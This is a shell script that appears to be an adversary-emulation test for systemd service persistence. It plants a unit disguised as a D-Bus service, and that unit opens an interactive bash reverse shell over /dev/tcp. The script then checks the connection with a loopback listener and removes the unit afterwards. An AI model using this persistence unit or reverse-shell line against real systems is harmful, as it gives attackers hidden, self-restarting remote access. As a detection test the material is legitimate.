#!/bin/sh
# T1543.002 (loud): A unit whose command is a shell over /dev/tcp
M=/var/tmp/luytre-foothold N=04-unit-shell
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
listen() { # a listener on loopback that notes who connects
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import socket, sys
s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(); s.settimeout(75)
c, _ = s.accept(); open(sys.argv[2], "w").write("connected"); c.sendall(b"exit\n")
END
  sleep 0.4; }
plant() {
  w /etc/systemd/system/dbus-org.service <<'E'
[Unit]
Description=D-Bus organiser
After=network.target
[Service]
ExecStart=/bin/bash -c "bash -i >& /dev/tcp/127.0.0.1/47004 0>&1"
Restart=always
RestartSec=300
[Install]
WantedBy=multi-user.target
E
  systemctl daemon-reload; systemctl -q enable dbus-org.service
}
prove() {
  rm -f "$M/$N"
  listen 47004
  systemctl restart dbus-org.service
  seen
}
remove() {
  systemctl -q disable --now dbus-org.service; rm -f /etc/systemd/system/dbus-org.service; systemctl daemon-reload
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
